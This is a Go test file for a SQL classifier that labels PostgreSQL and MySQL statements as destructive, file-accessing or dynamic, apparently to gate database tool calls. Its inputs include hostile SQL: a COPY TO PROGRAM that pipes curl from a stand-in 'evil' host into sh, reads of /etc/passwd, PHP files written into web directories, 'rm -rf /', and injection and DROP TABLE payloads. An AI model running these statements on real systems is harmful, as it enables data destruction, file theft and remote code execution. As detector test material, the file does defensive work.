package sqlfacts

import (
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/toolgate/toolgate/internal/facts"
	"github.com/toolgate/toolgate/internal/facts/factstest"
)

type F = map[string]any

func TestPostgres(t *testing.T) {
	c, err := New(facts.Options{})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name, sql string
		want      F
	}{
		{"plain select", "SELECT id, name FROM users WHERE id = 1", F{"count": 1, "kinds": []string{"select"}, "destructive": false, "tables_read": []string{"users"}, "tables_written": []string{}}},
		{"join with schema", "SELECT * FROM public.users u JOIN Sales.Orders o ON o.uid = u.id", F{"tables_read": []string{"public.users", "sales.orders"}, "destructive": false}},
		{"quoted mixed case lowered", `SELECT * FROM "Users"`, F{"tables_read": []string{"users"}}},
		{"subquery tables", "SELECT * FROM a WHERE x IN (SELECT y FROM b)", F{"tables_read": []string{"a", "b"}, "kinds": []string{"select"}}},
		{"cte read", "WITH r AS (SELECT * FROM secrets) SELECT * FROM r", F{"tables_read": []string{"secrets"}, "data_modifying_cte": false}},
		{"functions lowered", "SELECT NOW(), Lower(name) FROM t", F{"functions": []string{"now", "lower"}}},
		{"qualified function bare name too", "SELECT pg_catalog.pg_read_file('/etc/passwd')", F{"functions": []string{"pg_catalog.pg_read_file", "pg_read_file"}, "file_access": true}},
		{"function in from", "SELECT * FROM pg_ls_dir('/')", F{"functions": []string{"pg_ls_dir"}, "file_access": true}},
		{"terminate backend is destructive", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", F{"functions": []string{"pg_terminate_backend"}, "destructive": true, "kinds": []string{"select"}}},
		{"insert", "INSERT INTO logs(msg) VALUES ('x')", F{"kinds": []string{"insert"}, "tables_written": []string{"logs"}, "destructive": false}},
		{"insert select", "INSERT INTO a SELECT * FROM b", F{"tables_written": []string{"a"}, "tables_read": []string{"b"}}},
		{"update with where", "UPDATE users SET name = 'x' WHERE id = 5", F{"kinds": []string{"update"}, "destructive": false, "tables_written": []string{"users"}}},
		{"update without where", "UPDATE users SET active = false", F{"destructive": true}},
		{"delete with where", "DELETE FROM users WHERE id = 5", F{"kinds": []string{"delete"}, "destructive": false}},
		{"delete without where", "DELETE FROM users", F{"destructive": true, "tables_written": []string{"users"}}},
		{"delete where true", "DELETE FROM users WHERE true", F{"destructive": true}},
		{"delete where 1=1", "DELETE FROM users WHERE 1=1", F{"destructive": true}},
		{"delete or tautology", "DELETE FROM users WHERE id = 1 OR 1 = 1", F{"destructive": true}},
		{"delete and keeps restriction", "DELETE FROM users WHERE id = 1 AND 1 = 1", F{"destructive": false}},
		{"delete uncorrelated exists", "DELETE FROM users WHERE EXISTS (SELECT 1 FROM admins)", F{"destructive": true, "tables_read": []string{"admins"}}},
		{"delete using", "DELETE FROM a USING b WHERE a.id = b.id", F{"tables_written": []string{"a"}, "tables_read": []string{"b"}, "destructive": false}},
		{"truncate", "TRUNCATE TABLE a, b", F{"kinds": []string{"ddl"}, "destructive": true, "tables_written": []string{"a", "b"}}},
		{"drop table", "DROP TABLE IF EXISTS s.t CASCADE", F{"kinds": []string{"ddl"}, "destructive": true, "tables_written": []string{"s.t"}}},
		{"drop schema", "DROP SCHEMA app CASCADE", F{"destructive": true}},
		{"drop database", "DROP DATABASE prod", F{"destructive": true, "kinds": []string{"ddl"}}},
		{"alter table", "ALTER TABLE users ADD COLUMN x int", F{"destructive": true, "tables_written": []string{"users"}}},
		{"create table", "CREATE TABLE t (id int)", F{"kinds": []string{"ddl"}, "destructive": false, "tables_written": []string{"t"}}},
		{"create or replace view", "CREATE OR REPLACE VIEW v AS SELECT * FROM t", F{"destructive": true, "tables_written": []string{"v"}, "tables_read": []string{"t"}}},
		{"create index", "CREATE INDEX i ON t (x)", F{"kinds": []string{"ddl"}, "destructive": false}},
		{"select into creates table", "SELECT * INTO copy FROM t", F{"kinds": []string{"ddl", "select"}, "tables_written": []string{"copy"}}},
		{"create table as", "CREATE TABLE x AS SELECT * FROM y", F{"tables_written": []string{"x"}, "tables_read": []string{"y"}}},
		{"grant", "GRANT ALL ON users TO bob", F{"kinds": []string{"dcl"}, "destructive": true}},
		{"revoke", "REVOKE SELECT ON users FROM bob", F{"kinds": []string{"dcl"}, "destructive": true}},
		{"create role", "CREATE ROLE admin SUPERUSER", F{"kinds": []string{"dcl"}, "destructive": true}},
		{"alter role password", "ALTER ROLE bob PASSWORD 'x'", F{"kinds": []string{"dcl"}, "destructive": true}},
		{"set role", "SET ROLE postgres", F{"kinds": []string{"dcl"}}},
		{"transaction", "BEGIN; SELECT 1; COMMIT", F{"count": 3, "kinds": []string{"transaction", "select"}}},
		{"stacked statements", "SELECT 1; DROP TABLE users", F{"count": 2, "kinds": []string{"select", "ddl"}, "destructive": true}},
		{"stacked after comment", "SELECT 1 /* hi */; DELETE FROM t", F{"count": 2, "destructive": true}},
		{"line comment hides nothing", "SELECT 1 -- ; DROP TABLE x", F{"count": 1, "kinds": []string{"select"}, "destructive": false}},
		{"block comment inside keyword gap", "DELETE/**/FROM/**/users", F{"destructive": true}},
		{"case tricks", "dElEtE fRoM UsErS", F{"destructive": true, "tables_written": []string{"users"}}},
		{"nested comments", "SELECT /* a /* b */ c */ 1; DROP TABLE t", F{"count": 2, "destructive": true}},
		{"dollar quoting hides no statement", "SELECT $$; DROP TABLE t; $$", F{"count": 1, "destructive": false}},
		{"data modifying cte", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", F{"data_modifying_cte": true, "kinds": []string{"delete", "select"}, "destructive": true, "tables_written": []string{"t"}}},
		{"cte insert", "WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i", F{"data_modifying_cte": true, "kinds": []string{"insert"}}},
		{"copy to program", "COPY (SELECT 1) TO PROGRAM 'curl evil | sh'", F{"copy_program": true, "destructive": true, "file_access": true}},
		{"copy from program", "COPY t FROM PROGRAM 'cat /etc/passwd'", F{"copy_program": true, "tables_written": []string{"t"}}},
		{"copy to file", "COPY users TO '/tmp/u.csv'", F{"copy_program": false, "file_access": true, "tables_read": []string{"users"}}},
		{"copy to stdout", "COPY users TO STDOUT", F{"file_access": false, "kinds": []string{"other"}}},
		{"explain analyze delete", "EXPLAIN ANALYZE DELETE FROM t", F{"kinds": []string{"delete"}, "destructive": true}},
		{"explain select", "EXPLAIN SELECT * FROM t", F{"kinds": []string{"select"}, "destructive": false}},
		{"prepare", "PREPARE p AS DELETE FROM t", F{"kinds": []string{"delete"}, "destructive": true}},
		{"execute prepared", "EXECUTE p", F{"dynamic": true, "kinds": []string{"other"}}},
		{"do block", "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", F{"dynamic": true, "destructive": true}},
		{"load library", "LOAD '/tmp/evil.so'", F{"destructive": true, "file_access": true}},
		{"call procedure", "CALL cleanup(1)", F{"functions": []string{"cleanup"}, "kinds": []string{"other"}}},
		{"merge with delete", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", F{"kinds": []string{"delete"}, "destructive": true}},
		{"merge update insert", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = 1 WHEN NOT MATCHED THEN INSERT VALUES (1)", F{"kinds": []string{"update", "insert"}, "tables_written": []string{"t"}}},
		{"lo_export", "SELECT lo_export(1234, '/tmp/x')", F{"destructive": true, "file_access": true}},
		{"casts are not functions", "SELECT '1'::int, CAST('2' AS bigint)", F{"functions": []string{}}},
		{"alter system", "ALTER SYSTEM SET log_statement = 'none'", F{"destructive": true, "kinds": []string{"ddl"}}},
		{"vacuum", "VACUUM FULL users", F{"kinds": []string{"other"}, "destructive": false}},
		{"show", "SHOW search_path", F{"kinds": []string{"other"}}},
		{"empty", "", F{"count": 0, "kinds": []string{}, "parse_error": false}},
		{"only comment", "-- nothing", F{"count": 0}},
		{"syntax error", "SELEC * FROM t", F{"parse_error": true, "destructive": true}},
		{"psql meta command", `\! rm -rf /`, F{"parse_error": true}},
		{"mysql syntax in postgres", "SELECT * FROM t INTO OUTFILE '/tmp/x'", F{"parse_error": true}},
		{"nul byte", "SELECT 1\x00; DROP TABLE t", F{"parse_error": true, "destructive": true}},
		{"unicode escape identifier", `SELECT * FROM U&"d\0061ta"`, F{"tables_read": []string{"data"}}},
		{"lateral function", "SELECT * FROM t, LATERAL pg_read_binary_file(t.path) f", F{"file_access": true}},
		{"returning function", "INSERT INTO t VALUES (1) RETURNING pg_sleep(10)", F{"functions": []string{"pg_sleep"}}},
		{"update from join", "UPDATE a SET x = b.x FROM b WHERE a.id = b.id", F{"tables_written": []string{"a"}, "tables_read": []string{"b"}, "destructive": false}},
		{"where current of", "DELETE FROM t WHERE CURRENT OF c", F{"destructive": false}},
		{"dblink runs sql text", "SELECT * FROM dblink('host=x', 'DROP TABLE t') AS r(a int)", F{"dynamic": true, "functions": []string{"dblink"}}},
		// Volatility from PostgreSQL's catalog (pgcatalog.go).
		{"setval writes", "SELECT setval('s', 1)", F{"destructive": true, "volatile_functions": []string{"setval"}, "unknown_functions": []string{}}},
		{"lowrite writes", "SELECT lowrite(lo_open(1, 131072), 'x')", F{"destructive": true, "volatile_functions": []string{"lowrite", "lo_open"}}},
		{"statistics reset", "SELECT pg_stat_reset()", F{"destructive": true}},
		{"replication slot", "SELECT pg_create_physical_replication_slot('s')", F{"destructive": true}},
		{"qualified built-in", "SELECT PG_CATALOG.NEXTVAL('s')", F{"destructive": true, "volatile_functions": []string{"pg_catalog.nextval"}}},
		{"harmless volatile", "SELECT random(), clock_timestamp(), gen_random_uuid()", F{"destructive": false, "volatile_functions": []string{"random", "clock_timestamp", "gen_random_uuid"}}},
		{"stable and immutable", "SELECT now(), upper('a'), length('b')", F{"destructive": false, "volatile_functions": []string{}, "unknown_functions": []string{}}},
		{"not built-in", "SELECT myfunc(1)", F{"destructive": false, "unknown_functions": []string{"myfunc"}}},
		{"built-in name in another schema", "SELECT public.upper('a')", F{"unknown_functions": []string{"public.upper"}}},
		{"unknown in pg_catalog", "SELECT pg_catalog.myfunc()", F{"unknown_functions": []string{"pg_catalog.myfunc"}}},
		{"three-part name", "SELECT x.y.z()", F{"unknown_functions": []string{"x.y.z"}}},
		{"procedure", "CALL myproc()", F{"unknown_functions": []string{"myproc"}, "kinds": []string{"other"}}},
		{"view that calls a volatile function", "SELECT * FROM pg_hba_file_rules", F{"destructive": true, "volatile_functions": []string{"pg_hba_file_rules"}}},
		{"view that calls a harmless one", "SELECT * FROM pg_catalog.pg_locks", F{"destructive": false, "volatile_functions": []string{"pg_lock_status"}}},
		{"text search over a query", "SELECT ts_stat('SELECT v FROM t')", F{"dynamic": true, "destructive": true}},
		// Stable built-ins that read the tables a value names: the
		// table is not in tables_read, so the read is dynamic.
		{"table named in a value", "SELECT table_to_xml('secrets', true, true, '')", F{"dynamic": true}},
		{"every table", "SELECT database_to_xml(true, true, '')", F{"dynamic": true}},
		{"a schema's tables", "SELECT pg_catalog.schema_to_xml('public', true, true, '')", F{"dynamic": true}},
		{"row locks", "SELECT * FROM t FOR UPDATE", F{"kinds": []string{"select", "update"}}},
		{"shared row locks", "SELECT * FROM t WHERE id = 1 FOR KEY SHARE", F{"kinds": []string{"select", "update"}}},
		{"prepare keeps a statement", "PREPARE q AS SELECT 1", F{"kinds": []string{"select", "other"}}},
		{"empty", "", F{"count": 0, "kinds": []string{}, "parse_error": false}},
		{"only a comment", "-- nothing", F{"count": 0, "kinds": []string{}}},
		{"set config function", "SELECT set_config('role', 'postgres', false)", F{"destructive": true}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			factstest.Check(t, c.Classify(tc.sql), tc.want)
		})
	}
}

func TestMySQL(t *testing.T) {
	c, err := New(facts.Options{Dialect: "mysql"})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name, sql string
		want      F
	}{
		{"select", "SELECT * FROM `Users` WHERE id = 1", F{"kinds": []string{"select"}, "tables_read": []string{"users"}, "destructive": false}},
		{"no dual table", "SELECT 1", F{"tables_read": []string{}}},
		{"into outfile", "SELECT * FROM users INTO OUTFILE '/tmp/x'", F{"into_outfile": true, "file_access": true}},
		{"into dumpfile", "SELECT 'x' INTO DUMPFILE '/var/www/s.php'", F{"into_outfile": true}},
		{"load_file", "SELECT LOAD_FILE('/etc/passwd')", F{"functions": []string{"load_file"}, "file_access": true}},
		{"executable comment", "/*!50000 DROP TABLE users */", F{"destructive": true, "tables_written": []string{"users"}}},
		{"executable comment or", "DELETE FROM t WHERE id = 1 /*!OR 1=1*/", F{"destructive": true}},
		{"stacked", "SELECT 1; DROP TABLE t", F{"count": 2, "destructive": true}},
		{"delete multi", "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id WHERE t2.x = 1", F{"tables_written": []string{"t1"}, "tables_read": []string{"t2"}, "destructive": false}},
		{"update no where", "UPDATE users SET admin = 1", F{"destructive": true}},
		{"update where", "UPDATE users SET admin = 1 WHERE id = 3", F{"destructive": false, "tables_written": []string{"users"}}},
		{"replace", "REPLACE INTO t VALUES (1)", F{"kinds": []string{"insert", "delete"}}},
		{"prepare from literal", "PREPARE s FROM 'DROP TABLE users'", F{"destructive": true, "tables_written": []string{"users"}}},
		{"prepare from variable", "PREPARE s FROM @q", F{"dynamic": true}},
		{"load data", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", F{"file_access": true, "destructive": true}},
		{"set global", "SET GLOBAL general_log_file = '/var/www/x.php'", F{"destructive": true}},
		{"grant unparsed", "GRANT ALL ON *.* TO 'x'@'%'", F{"parse_error": true, "destructive": true}},
		{"truncate", "TRUNCATE TABLE logs", F{"destructive": true, "kinds": []string{"ddl"}}},
		{"begin commit", "BEGIN; COMMIT", F{"kinds": []string{"transaction"}, "count": 2}},
		{"sleep", "SELECT SLEEP(5)", F{"functions": []string{"sleep"}}},
		{"do is opaque", "DO SLEEP(1)", F{"destructive": true}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			factstest.Check(t, c.Classify(tc.sql), tc.want)
		})
	}
}

func TestLimits(t *testing.T) {
	c, _ := New(facts.Options{MaxInputBytes: 100})
	factstest.Check(t, c.Classify("SELECT "+strings.Repeat("1,", 100)+"1"), F{"parse_error": true, "destructive": true})
	big, _ := New(facts.Options{})
	// Deep nesting must end in an answer, not a crash.
	factstest.CheckTypes(t, big.Classify("SELECT "+strings.Repeat("(", 5000)+"1"+strings.Repeat(")", 5000)))
	factstest.CheckTypes(t, big.Classify("SELECT 1"+strings.Repeat("+1", 20000)))
	if _, err := New(facts.Options{Dialect: "oracle"}); err == nil {
		t.Error("unknown dialect accepted")
	}
}

func TestMerge(t *testing.T) {
	c, _ := New(facts.Options{})
	m := facts.Merge(Name, []facts.Facts{c.Classify("SELECT * FROM a"), c.Classify("DELETE FROM b")})
	factstest.Check(t, m, F{"count": 2, "kinds": []string{"select", "delete"}, "destructive": true, "tables_read": []string{"a"}, "tables_written": []string{"b"}})
	factstest.Check(t, Merge(nil), F{"count": 0, "destructive": false})
	bad := facts.Merge(Name, []facts.Facts{c.Classify("SELECT 1"), c.Classify("nonsense here")})
	factstest.Check(t, bad, F{"parse_error": true, "destructive": true})
}

// FuzzClassify checks properties of the facts of any text, in both
// dialects: unanalysed SQL is destructive; volatile and unknown functions
// are among the functions; a statement with no statements counts none;
// and the facts are a function of the text.
func FuzzClassify(f *testing.F) {
	for _, s := range []string{"SELECT 1", "DELETE FROM t WHERE id = 1 OR 1=1", "WITH d AS (DELETE FROM t RETURNING *) SELECT 1", "COPY t TO PROGRAM 'x'",
		"SELECT setval('s', 1)", "SELECT public.f()", "SELECT * FROM pg_hba_file_rules", ";"} {
		f.Add(s)
	}
	pg, _ := New(facts.Options{})
	my, _ := New(facts.Options{Dialect: "mysql"})
	f.Fuzz(func(t *testing.T, s string) {
		for _, c := range []*Classifier{pg, my} {
			out := c.Classify(s)
			if err := factstest.Types(out); err != nil {
				t.Fatalf("%q: %v", s, err)
			}
			if pe, _ := out["parse_error"].(bool); pe {
				if out["destructive"] != true {
					t.Fatalf("%q: parse_error but not destructive", s)
				}
				continue
			}
			fns := out["functions"].([]string)
			for _, k := range []string{"volatile_functions", "unknown_functions"} {
				for _, fn := range out[k].([]string) {
					if !slices.Contains(fns, fn) {
						t.Fatalf("%q: %s has %q, functions %v", s, k, fn, fns)
					}
				}
			}
			if out["count"] == int64(0) && len(out["kinds"].([]string)) != 0 {
				t.Fatalf("%q: no statements but kinds %v", s, out["kinds"])
			}
			if again := c.Classify(s); !reflect.DeepEqual(out, again) {
				t.Fatalf("%q: two calls differ", s)
			}
		}
	})
}

const bench200 = "SELECT u.id, u.name, o.total FROM public.users u JOIN orders o ON o.user_id = u.id WHERE u.created_at > now() - interval '7 days' AND o.status = 'paid' ORDER BY o.total DESC LIMIT 50"

func BenchmarkPostgres200(b *testing.B) {
	c, _ := New(facts.Options{})
	b.ReportAllocs()
	b.SetBytes(int64(len(bench200)))
	for b.Loop() {
		c.Classify(bench200)
	}
}

func BenchmarkPostgresDelete(b *testing.B) {
	c, _ := New(facts.Options{})
	q := "DELETE FROM sessions WHERE expires_at < now() AND user_id IN (SELECT id FROM users WHERE disabled)"
	b.ReportAllocs()
	for b.Loop() {
		c.Classify(q)
	}
}

func BenchmarkMySQL200(b *testing.B) {
	c, _ := New(facts.Options{Dialect: "mysql"})
	q := "SELECT u.id, u.name, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE u.created_at > now() - interval 7 day AND o.status = 'paid' ORDER BY o.total DESC LIMIT 50"
	b.ReportAllocs()
	for b.Loop() {
		c.Classify(q)
	}
}

// BenchmarkPostgres200P50 reports the median latency of single calls, the
// figure the performance target is stated in.
func BenchmarkPostgres200P50(b *testing.B) {
	c, _ := New(facts.Options{})
	b.ReportAllocs()
	lat := make([]time.Duration, 0, 1<<16)
	for b.Loop() {
		start := time.Now()
		c.Classify(bench200)
		if len(lat) < cap(lat) {
			lat = append(lat, time.Since(start))
		}
	}
	slices.Sort(lat)
	if len(lat) > 0 {
		b.ReportMetric(float64(lat[len(lat)/2].Nanoseconds()), "p50-ns")
		b.ReportMetric(float64(lat[len(lat)*99/100].Nanoseconds()), "p99-ns")
	}
}
